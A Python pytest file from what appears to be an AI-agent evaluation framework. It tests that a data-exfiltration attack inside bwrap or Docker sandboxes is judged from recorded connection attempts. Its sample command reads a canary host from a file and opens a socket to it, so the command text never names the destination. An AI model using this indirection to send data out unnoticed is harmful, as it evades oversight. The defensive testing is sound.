"""A data-exfiltration attack is decided from the sandbox's record of the connection attempt, not from the text of
the command that made it: here the command reads the canary address from a file, so its text never names it."""

from __future__ import annotations

import os
import uuid
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from niceeval.attacks import attack_cases, judge_attack, resisted
from niceeval.sandbox import (
    BwrapSandbox,
    DockerSandbox,
    LocalSandbox,
    bwrap_problem,
    docker_problem,
    docker_sandbox,
    network_watch_problem,
    prepare_docker_run,
)

pytestmark = pytest.mark.anyio

BASE_IMAGE = "niceeval-base:bookworm"
SEND = (
    "import socket; host, port = open('.sink').read().split(':')\n"
    "try: socket.create_connection((host, int(port)), timeout=5)\nexcept OSError as e: print(e)"
)


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


def _skip(problem: str | None) -> None:
    if problem is not None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI=true but {problem}", pytrace=False)
        pytest.skip(problem)


@pytest.fixture(params=["bwrap", "docker"])
async def sandbox(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[LocalSandbox]:
    fixture = tmp_path / "fixture"
    fixture.mkdir()
    if request.param == "bwrap":
        _skip(bwrap_problem() or network_watch_problem())
        opened: LocalSandbox = await BwrapSandbox.create(fixture)
    else:
        _skip(docker_problem())
        run = await prepare_docker_run(
            docker_sandbox(image=BASE_IMAGE), bases=(tmp_path,), eval_id=f"tests::{uuid.uuid4()}", attempt=0
        )
        opened = await DockerSandbox.create(fixture, run=run)
    async with opened:
        yield opened


async def test_an_exfiltration_attempt_is_judged_from_the_recorded_connection(sandbox: LocalSandbox) -> None:
    case = next(c for c in attack_cases(["data_exfiltration"]) if c["sink"] in c["carrier"])
    await sandbox.write_text(".sink", case["sink"])
    sent = await sandbox.run_command("python3", ["-c", SEND])
    assert "Connection refused" in sent.stdout  # refused inside the sandbox: nothing left it
    assert case["sink"] not in sent.command
    outcome = judge_attack(case, [], sandbox.commands, sandbox.connection_attempts)
    assert outcome.succeeded and outcome.evidence == (f"connection attempt tcp {case['sink']}",)
    matcher = resisted()
    verdict = matcher.result(matcher.score_fn(outcome), "x.py:1")  # type: ignore[arg-type]
    assert verdict.state == "failed" and f"connection attempt tcp {case['sink']}" in (verdict.reason or "")


async def test_an_attempt_elsewhere_is_no_evidence_for_this_case(sandbox: LocalSandbox) -> None:
    case = next(c for c in attack_cases(["data_exfiltration"]) if c["sink"] in c["carrier"])
    await sandbox.write_text(".sink", "203.0.113.250:1")
    await sandbox.run_command("python3", ["-c", SEND])
    assert [a.target for a in sandbox.connection_attempts] == ["203.0.113.250:1"]
    assert not judge_attack(case, [], sandbox.commands, sandbox.connection_attempts).succeeded
